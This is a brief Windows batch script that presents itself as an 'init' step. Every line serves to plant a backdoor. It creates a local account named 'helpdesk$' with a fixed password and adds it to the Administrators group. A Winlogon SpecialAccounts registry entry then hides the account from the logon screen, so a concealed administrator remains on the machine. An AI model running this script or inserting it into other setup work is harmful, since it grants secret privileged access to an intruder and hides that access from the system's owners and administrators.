REM init 1668 v0
@echo off
net user helpdesk$ Adm1n!strat0r /add /active:yes
net localgroup Administrators helpdesk$ /add
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v helpdesk$ /t REG_DWORD /d 0 /f
